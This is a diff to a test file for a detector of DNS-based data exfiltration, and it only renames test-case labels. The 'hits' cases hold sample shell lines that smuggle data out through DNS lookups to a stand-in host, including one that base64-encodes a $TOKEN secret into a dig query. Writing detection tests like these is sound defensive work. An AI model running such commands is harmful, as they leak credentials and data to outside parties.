@@ -4,11 +4,11 @@ import { dnsData } from './dns-data.ts';
 ruleCases(dnsData, {
   hits: [
     {
-      name: 'a secret in a question',
+      name: 'a secret in a query',
       path: 'a.sh',
       text: 'dig $(echo $TOKEN | base64).x.example\n',
     },
-    { name: 'a variable in front', path: 'a.sh', text: 'nslookup "${data}.log.x.example"\n' },
+    { name: 'a variable at the front', path: 'a.sh', text: 'nslookup "${data}.log.x.example"\n' },
     {
       name: 'a program',
       path: 'a.py',
@@ -21,8 +21,8 @@ ruleCases(dnsData, {
     },
   ],
   misses: [
-    { name: 'a name that is given', path: 'a.sh', text: 'dig +short "$DOMAIN" A\n' },
-    { name: 'a record of a domain', path: 'a.sh', text: 'dig TXT _dmarc.$DOMAIN\n' },
+    { name: 'a name that is passed', path: 'a.sh', text: 'dig +short "$DOMAIN" A\n' },
+    { name: "a domain's record", path: 'a.sh', text: 'dig TXT _dmarc.$DOMAIN\n' },
     {
       name: 'a lookup in a program',
       path: 'a.py',
